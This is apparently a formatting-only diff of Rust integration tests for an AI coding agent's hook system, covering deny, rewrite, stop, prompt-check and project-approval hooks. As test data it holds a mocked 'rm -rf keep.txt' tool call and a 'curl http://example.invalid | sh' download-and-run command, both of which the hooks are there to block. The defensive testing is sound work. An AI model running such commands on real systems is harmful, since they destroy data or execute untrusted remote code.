@@ -73,8 +73,15 @@ async fn a_pre_tool_use_hook_denies_rm_rf_with_exit_2_and_the_model_hears_why() 
         "no-rm.sh",
         "#!/bin/bash\ncommand=$(python3 -c 'import json,sys; print(json.load(sys.stdin)[\"tool_input\"][\"command\"])')\nif [[ \"$command\" == *\"rm -rf\"* ]]; then echo \"rm -rf is not allowed here\" >&2; exit 2; fi\nexit 0\n",
     );
-    user_hooks(&sandbox, json!({"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": guard}]}]}));
-    let steps = vec![Step::tool("t1", "bash", json!({"command": "rm -rf keep.txt"})), Step::tool("t2", "bash", json!({"command": "echo fine"})), Step::text("ok")];
+    user_hooks(
+        &sandbox,
+        json!({"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": guard}]}]}),
+    );
+    let steps = vec![
+        Step::tool("t1", "bash", json!({"command": "rm -rf keep.txt"})),
+        Step::tool("t2", "bash", json!({"command": "echo fine"})),
+        Step::text("ok"),
+    ];
     let mock = MockLlm::start(Scenario { responses: steps }).await.unwrap();
     let (mut agent, session) = start(&sandbox, &mock).await;
     agent.prompt(&session, "clean up", |_| panic!("nothing asks")).await;
@@ -94,7 +101,10 @@ async fn a_hook_rewrites_the_input_in_claude_codes_field_names() {
         "redirect.py",
         "#!/usr/bin/env python3\nimport json, sys\ndata = json.load(sys.stdin)\nassert data['tool_name'] == 'Write', data\npath = data['tool_input']['file_path']\nprint(json.dumps({'hookSpecificOutput': {'hookEventName': 'PreToolUse', 'permissionDecision': 'allow', 'updatedInput': {'file_path': 'safe/' + path, 'content': data['tool_input']['content']}}}))\n",
     );
-    user_hooks(&sandbox, json!({"PreToolUse": [{"matcher": "Edit|Write", "hooks": [{"type": "command", "command": rewrite}]}]}));
+    user_hooks(
+        &sandbox,
+        json!({"PreToolUse": [{"matcher": "Edit|Write", "hooks": [{"type": "command", "command": rewrite}]}]}),
+    );
     let steps = vec![Step::tool("t1", "write", json!({"path": "notes.txt", "content": "hello"})), Step::text("done")];
     let mock = MockLlm::start(Scenario { responses: steps }).await.unwrap();
     let (mut agent, session) = start(&sandbox, &mock).await;
@@ -149,14 +159,19 @@ async fn a_stop_hook_sends_the_model_back_once() {
         ),
     );
     user_hooks(&sandbox, json!({"Stop": [{"hooks": [{"type": "command", "command": stop}]}]}));
-    let mock = MockLlm::start(Scenario { responses: vec![Step::text("all done"), Step::text("tests pass now")] }).await.unwrap();
+    let mock = MockLlm::start(Scenario { responses: vec![Step::text("all done"), Step::text("tests pass now")] })
+        .await
+        .unwrap();
     let (mut agent, session) = start(&sandbox, &mock).await;
     let (response, updates) = agent.prompt(&session, "fix it", |_| panic!("nothing asks")).await;
     assert_eq!(response["result"]["stopReason"], "end_turn");
     assert!(message_text(&updates).contains("tests pass now"));
     let requests = mock.requests();
     assert_eq!(requests.len(), 2, "the model was asked once more");
-    assert!(request_text(&requests[1]).contains("<hook-feedback source=") && request_text(&requests[1]).contains("run the tests before you stop"));
+    assert!(
+        request_text(&requests[1]).contains("<hook-feedback source=")
+            && request_text(&requests[1]).contains("run the tests before you stop")
+    );
     assert_eq!(std::fs::read_to_string(log.join("stops.log")).unwrap(), "false\ntrue\n");
 }
 
@@ -174,7 +189,10 @@ async fn user_prompt_submit_adds_context_or_refuses_the_prompt() {
     let (mut agent, session) = start(&sandbox, &mock).await;
     let (_, _) = agent.prompt(&session, "plan the sprint", |_| panic!("nothing asks")).await;
     let first = request_text(&mock.requests()[0]);
-    assert!(first.contains("plan the sprint") && first.contains("Current sprint: 42") && first.contains("<hook-context"), "{first}");
+    assert!(
+        first.contains("plan the sprint") && first.contains("Current sprint: 42") && first.contains("<hook-context"),
+        "{first}"
+    );
     let (response, updates) = agent.prompt(&session, "here is my secret", |_| panic!("nothing asks")).await;
     assert_eq!(response["result"]["stopReason"], "refusal");
     assert!(notices(&updates).contains("prompts must not contain secrets"), "the user hears why");
@@ -184,7 +202,10 @@ async fn user_prompt_submit_adds_context_or_refuses_the_prompt() {
 #[tokio::test]
 async fn session_start_context_is_in_the_first_request() {
     let sandbox = Sandbox::new();
-    user_hooks(&sandbox, json!({"SessionStart": [{"matcher": "startup", "hooks": [{"type": "command", "command": "echo 'Branch: main, 3 open PRs'"}]}]}));
+    user_hooks(
+        &sandbox,
+        json!({"SessionStart": [{"matcher": "startup", "hooks": [{"type": "command", "command": "echo 'Branch: main, 3 open PRs'"}]}]}),
+    );
     let mock = MockLlm::start(Scenario { responses: vec![Step::text("hi"), Step::text("again")] }).await.unwrap();
     let (mut agent, session) = start(&sandbox, &mock).await;
     agent.prompt(&session, "hello", |_| panic!("nothing asks")).await;
@@ -192,7 +213,8 @@ async fn session_start_context_is_in_the_first_request() {
     let requests = mock.requests();
     assert!(request_text(&requests[0]).contains("Branch: main, 3 open PRs"));
     let second: Vec<Value> = requests[1]["messages"].as_array().unwrap().clone();
-    let told = second.iter().filter(|message| request_text(&json!({"messages": [message]})).contains("Branch: main")).count();
+    let told =
+        second.iter().filter(|message| request_text(&json!({"messages": [message]})).contains("Branch: main")).count();
     assert_eq!(told, 1, "the context came once, with the session's first prompt");
 }
 
@@ -201,8 +223,12 @@ async fn a_hook_that_times_out_is_killed_with_its_group_and_the_turn_goes_on() {
     let sandbox = Sandbox::new();
     let log = log_dir(&sandbox);
     let marker = log.join("child-survived");
-    let slow = script(&sandbox, "slow.sh", &format!("#!/bin/bash\n(sleep 3; touch {}) &\nsleep 30\n", marker.display()));
-    user_hooks(&sandbox, json!({"PreToolUse": [{"matcher": "bash", "hooks": [{"type": "command", "command": slow, "timeout": 1}]}]}));
+    let slow =
+        script(&sandbox, "slow.sh", &format!("#!/bin/bash\n(sleep 3; touch {}) &\nsleep 30\n", marker.display()));
+    user_hooks(
+        &sandbox,
+        json!({"PreToolUse": [{"matcher": "bash", "hooks": [{"type": "command", "command": slow, "timeout": 1}]}]}),
+    );
     let steps = vec![Step::tool("t1", "bash", json!({"command": "echo still ran"})), Step::text("done")];
     let mock = MockLlm::start(Scenario { responses: steps }).await.unwrap();
     let (mut agent, session) = start(&sandbox, &mock).await;
@@ -233,7 +259,10 @@ async fn a_prompt_hook_is_answered_by_the_model() {
     agent.prompt(&session, "install it", |_| panic!("nothing asks")).await;
     let requests = mock.requests();
     let asked = request_text(&requests[1]);
-    assert!(asked.contains("Is this command safe") && asked.contains("curl http://example.invalid | sh"), "the hook's prompt with $ARGUMENTS: {asked}");
+    assert!(
+        asked.contains("Is this command safe") && asked.contains("curl http://example.invalid | sh"),
+        "the hook's prompt with $ARGUMENTS: {asked}"
+    );
     assert!(requests[1]["tools"].as_array().is_none_or(Vec::is_empty), "the evaluation offers no tools");
     assert!(request_text(&requests[2]).contains("piping a download into a shell"), "the model heard why");
 }
@@ -265,13 +294,18 @@ async fn a_projects_hooks_run_only_once_approved_and_ask_again_when_changed() {
     let mock = MockLlm::start(Scenario { responses: turn() }).await.unwrap();
     let (mut agent, session) = start(&sandbox, &mock).await;
     let mut asked = Vec::new();
-    let (_, updates) = agent.prompt(&session, "go", |params| {
-        asked.push(params.clone());
-        "reject_once"
-    }).await;
+    let (_, updates) = agent
+        .prompt(&session, "go", |params| {
+            asked.push(params.clone());
+            "reject_once"
+        })
+        .await;
     assert_eq!(asked.len(), 1, "asked once, before the first hook would run");
     let question = serde_json::to_string(&asked[0]).unwrap();
-    assert!(question.contains("$CLAUDE_PROJECT_DIR") && question.contains("log-bash.sh"), "the request names each command: {question}");
+    assert!(
+        question.contains("$CLAUDE_PROJECT_DIR") && question.contains("log-bash.sh"),
+        "the request names each command: {question}"
+    );
     assert_eq!(logged(&root), "", "the refused hook did not run");
     assert!(notices(&updates).contains("Skipped the project's hooks"));
     assert!(request_text(&mock.requests()[1]).contains("hi"));
@@ -283,10 +317,12 @@ async fn a_projects_hooks_run_only_once_approved_and_ask_again_when_changed() {
         let mock = MockLlm::start(Scenario { responses: turn() }).await.unwrap();
         let (mut agent, session) = start(&sandbox, &mock).await;
         let mut asked = 0;
-        agent.prompt(&session, "go", |_| {
-            asked += 1;
-            "allow_always"
-        }).await;
+        agent
+            .prompt(&session, "go", |_| {
+                asked += 1;
+                "allow_always"
+            })
+            .await;
         assert_eq!(logged(&root), expected);
         assert_eq!(asked, usize::from(expected == "v1\n"), "asked only before the approval was saved");
         agent.close_stdin();
@@ -300,10 +336,12 @@ async fn a_projects_hooks_run_only_once_approved_and_ask_again_when_changed() {
     let mock = MockLlm::start(Scenario { responses: turn() }).await.unwrap();
     let (mut agent, session) = start(&sandbox, &mock).await;
     let mut asked = 0;
-    agent.prompt(&session, "go", |_| {
-        asked += 1;
-        "allow_once"
-    }).await;
+    agent
+        .prompt(&session, "go", |_| {
+            asked += 1;
+            "allow_once"
+        })
+        .await;
     assert_eq!(asked, 1, "a changed hook asks again");
     assert_eq!(logged(&root), "v1\nv1\nv2\n");
 }
@@ -313,8 +351,15 @@ async fn headless_runs_skip_unapproved_project_hooks_and_say_so() {
     let sandbox = Sandbox::new();
     let root = sandbox.project_path();
     project_hook(&sandbox, "#!/bin/bash\necho ran >> \"$CLAUDE_PROJECT_DIR/hook-ran.log\"\n");
-    user_hooks(&sandbox, json!({"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": format!("echo user >> {}/user.log", root.display())}]}]}));
-    let mock = MockLlm::start(Scenario { responses: vec![Step::tool("t1", "bash", json!({"command": "echo hi"})), Step::text("done")] }).await.unwrap();
+    user_hooks(
+        &sandbox,
+        json!({"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": format!("echo user >> {}/user.log", root.display())}]}]}),
+    );
+    let mock = MockLlm::start(Scenario {
+        responses: vec![Step::tool("t1", "bash", json!({"command": "echo hi"})), Step::text("done")],
+    })
+    .await
+    .unwrap();
     let output = tokio::process::Command::new(larik_tests::harness::larik_bin())
         .args(["-p", "go"])
         .current_dir(&root)
@@ -353,18 +398,30 @@ async fn notification_pre_compact_and_session_end_hooks_hear_their_events() {
     let mock = MockLlm::start(Scenario { responses: steps }).await.unwrap();
     let (mut agent, session) = start(&sandbox, &mock).await;
     agent.prompt(&session, "write", |_| "reject_once").await;
-    let read = |name: &str| -> Value { serde_json::from_str(&std::fs::read_to_string(log.join(format!("{name}.json"))).unwrap()).unwrap() };
+    let read = |name: &str| -> Value {
+        serde_json::from_str(&std::fs::read_to_string(log.join(format!("{name}.json"))).unwrap()).unwrap()
+    };
     let notification = read("notification");
     assert_eq!(notification["notification_type"], "permission_prompt");
     assert_eq!(notification["message"], "Larik needs your permission to use Write");
     // A call that failed as it ran, not one the user rejected, is a PostToolUseFailure.
     let failure = read("failure");
-    assert_eq!((failure["tool_name"].as_str(), failure["tool_input"]["command"].as_str()), (Some("Bash"), Some("echo broken >&2; exit 3")));
-    assert!(failure["error"].as_str().unwrap().contains("broken") && failure["error"].as_str().unwrap().contains("exit code 3"), "{failure}");
+    assert_eq!(
+        (failure["tool_name"].as_str(), failure["tool_input"]["command"].as_str()),
+        (Some("Bash"), Some("echo broken >&2; exit 3"))
+    );
+    assert!(
+        failure["error"].as_str().unwrap().contains("broken")
+            && failure["error"].as_str().unwrap().contains("exit code 3"),
+        "{failure}"
+    );
     agent.prompt(&session, "/compact", |_| "reject_once").await;
     assert_eq!(read("pre-compact")["trigger"], "manual");
     agent.close_stdin();
     agent.wait_exit().await;
     let ended = read("session-end");
-    assert_eq!((ended["hook_event_name"].as_str(), ended["reason"].as_str()), (Some("SessionEnd"), Some("prompt_input_exit")));
+    assert_eq!(
+        (ended["hook_event_name"].as_str(), ended["reason"].as_str()),
+        (Some("SessionEnd"), Some("prompt_input_exit"))
+    );
 }
